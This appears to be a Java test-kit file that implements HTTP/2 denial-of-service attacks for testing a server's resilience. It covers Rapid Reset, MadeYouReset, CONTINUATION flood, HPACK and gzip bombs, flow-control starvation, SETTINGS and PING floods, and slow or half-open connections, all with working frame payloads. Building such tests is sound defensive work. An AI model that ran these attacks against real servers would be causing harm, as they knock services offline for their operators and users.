package dev.weft.testkit.hostile;

import dev.weft.testkit.Frame;
import dev.weft.testkit.HeaderBlock;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.zip.GZIPOutputStream;

/// What an attacker does, a beat at a time; beats come at a fixed rate.
enum Attack {
  /// CVE-2023-44487: opens and resets.
  RAPID_RESET {
    @Override
    void beat(Assault on, int beat) throws IOException {
      int id = on.next();
      on.send(Frame.headers(id, SILENT), Frame.rstStream(id, 8));
    }
  },

  /// CVE-2025-8671: has the server reset.
  MADE_YOU_RESET {
    @Override
    void beat(Assault on, int beat) throws IOException {
      int id = on.next();
      on.send(Frame.headers(id, SILENT), Frame.windowUpdate(id, 0));
    }
  },

  /// CVE-2024-27316: a header block without end.
  CONTINUATION_FLOOD {
    @Override
    void beat(Assault on, int beat) throws IOException {
      if (on.last() < 0) {
        on.send(Frame.headers(on.next(), SILENT).withFlags(0));
      } else {
        on.send(Frame.continuation(on.last()).withFlags(0));
      }
    }

    @Override
    void end(Assault on) throws IOException {
      on.send(Frame.continuation(on.last()));
    }
  },

  /// CVE-2016-6581: one large field in the table, and block after block of references to it.
  HPACK_BOMB(50) {
    @Override
    void beat(Assault on, int beat) throws IOException {
      int id = on.next();
      on.send(Frame.headers(id, id == 1 ? BOMB : SHRAPNEL).ending());
    }
  },

  SETTINGS_FLOOD {
    @Override
    void begin(Assault on) throws IOException {
      on.greetAndReadNothing();
    }

    @Override
    void beat(Assault on, int beat) throws IOException {
      on.send(Frame.settings(Frame.INITIAL_WINDOW_SIZE, 65_535 + beat % 2));
    }
  },

  PING_FLOOD {
    @Override
    void begin(Assault on) throws IOException {
      on.greetAndReadNothing();
    }

    @Override
    void beat(Assault on, int beat) throws IOException {
      on.send(Frame.ping(beat));
    }
  },

  EMPTY_DATA {
    @Override
    void beat(Assault on, int beat) throws IOException {
      if (on.last() < 0) on.send(Frame.headers(on.next(), SILENT));
      on.send(Frame.data(on.last()));
    }
  },

  /// A byte a frame, to a handler that reads nothing.
  DATA_DRIP {
    @Override
    void beat(Assault on, int beat) throws IOException {
      if (on.last() < 0) on.send(Frame.headers(on.next(), SILENT));
      on.send(Frame.data(on.last(), (byte) beat));
    }
  },

  /// A thousand answers that find no window.
  ZERO_WINDOW {
    @Override
    int[] settings() {
      return new int[] {Frame.INITIAL_WINDOW_SIZE, 0};
    }

    @Override
    void beat(Assault on, int beat) throws IOException {
      if (on.last() < 2_000) on.send(Frame.headers(on.next(), LARGE), request(on.last()));
    }
  },

  /// A hundred answers that find a byte of window at a time.
  WINDOW_DRIP {
    @Override
    int[] settings() {
      return new int[] {Frame.INITIAL_WINDOW_SIZE, 1};
    }

    @Override
    void beat(Assault on, int beat) throws IOException {
      if (on.last() < 200) {
        on.send(Frame.headers(on.next(), LARGE), request(on.last()));
      } else {
        on.send(Frame.windowUpdate(2 * (beat % 100) + 1, 1));
      }
    }
  },

  /// CVE-2026-50560: no answer's head is small enough.
  TINY_HEADER_LIST {
    @Override
    int[] settings() {
      return new int[] {Frame.MAX_HEADER_LIST_SIZE, 1};
    }

    @Override
    void beat(Assault on, int beat) throws IOException {
      on.send(Frame.headers(on.next(), ECHO), request(on.last()));
    }
  },

  /// Sixty-four mebibytes in sixty-four kilobytes.
  GZIP_BOMB(20) {
    @Override
    void beat(Assault on, int beat) throws IOException {
      int id = on.next();
      on.send(Frame.headers(id, ZIPPED));
      ByteBuffer left = ByteBuffer.wrap(ZIP);
      while (left.hasRemaining()) {
        var part = new byte[Math.min(left.remaining(), 16 << 10)];
        left.get(part);
        Frame data = Frame.data(id, part);
        on.send(left.hasRemaining() ? data : data.ending());
      }
    }
  },

  /// Connects, and does not get beyond a few bytes.
  SLOW_HANDSHAKE(200) {
    @Override
    void begin(Assault on) throws IOException {
      on.sendBytes((byte) 'P', (byte) 'R', (byte) 'I');
    }

    @Override
    void beat(Assault on, int beat) throws IOException {
      on.leaveAndConnect();
      begin(on);
    }
  },

  /// Connects, calls, and is heard of no more.
  HALF_OPEN(200) {
    @Override
    void begin(Assault on) throws IOException {
      on.greetAndReadNothing();
    }

    @Override
    void beat(Assault on, int beat) throws IOException {
      on.send(Frame.headers(on.next(), SILENT));
      on.flush();
      on.leaveAndConnect();
      begin(on);
    }
  },

  /// Opens streams and ends none.
  TOO_MANY_STREAMS {
    @Override
    void beat(Assault on, int beat) throws IOException {
      on.send(Frame.headers(on.next(), SILENT));
    }
  };

  private static final int USUAL_RATE = Integer.getInteger("weft.attack.rate", 5_000);
  private static final byte[] SILENT = Assault.call("Silent");
  private static final byte[] LARGE = Assault.call("Large");
  private static final byte[] ECHO = Assault.call("Echo");
  private static final byte[] ZIPPED = Assault.call("Echo", "grpc-encoding", "gzip");
  private static final byte[] ZIP = zipped(64 << 20);
  private static final byte[] BOMB = bomb();
  private static final byte[] SHRAPNEL = shrapnel();

  private final int rate;

  Attack() {
    this(0);
  }

  Attack(int rate) {
    this.rate = rate;
  }

  /// Beats a second, unless others are asked for.
  int rate() {
    return rate == 0 ? USUAL_RATE : rate;
  }

  /// What it says of itself: ids and values.
  int[] settings() {
    return new int[0];
  }

  /// Begins a connection, also when the server has closed the last.
  void begin(Assault on) throws IOException {
    on.greet(settings());
  }

  /// Begins a connection whose answers are read, whether this attack does that or not.
  Heard beginAndRead(Assault on) throws IOException {
    return on.greet(settings());
  }

  /// Ends what the beats have left open, so that other frames may follow.
  void end(Assault on) throws IOException {
    // Mostly nothing.
  }

  abstract void beat(Assault on, int beat) throws IOException;

  /// A message without a byte, and the end.
  private static Frame request(int id) {
    return Frame.data(id, new byte[5]).ending();
  }

  private static byte[] zipped(int size) {
    var bytes = new ByteArrayOutputStream();
    try (var zip = new GZIPOutputStream(bytes)) {
      var zeros = new byte[1 << 16];
      for (int i = 0; i < size; i += zeros.length) zip.write(zeros);
    } catch (IOException e) {
      throw new AssertionError(e);
    }
    ByteBuffer message = ByteBuffer.allocate(5 + bytes.size());
    return message.put((byte) 1).putInt(bytes.size()).put(bytes.toByteArray()).array();
  }

  /// A call with a field of almost 4 KiB that goes into the table (RFC 7541 §6.2.1).
  private static byte[] bomb() {
    byte[] field = HeaderBlock.literal("x-bomb", "x".repeat(4_000));
    field[0] = 0x40;
    return HeaderBlock.joined(SILENT, field);
  }

  /// A call with that field sixteen thousand times: 64 MB.
  private static byte[] shrapnel() {
    var references = new byte[16_000];
    Arrays.fill(references, (byte) (0x80 | 62));
    return HeaderBlock.joined(SILENT, references);
  }
}
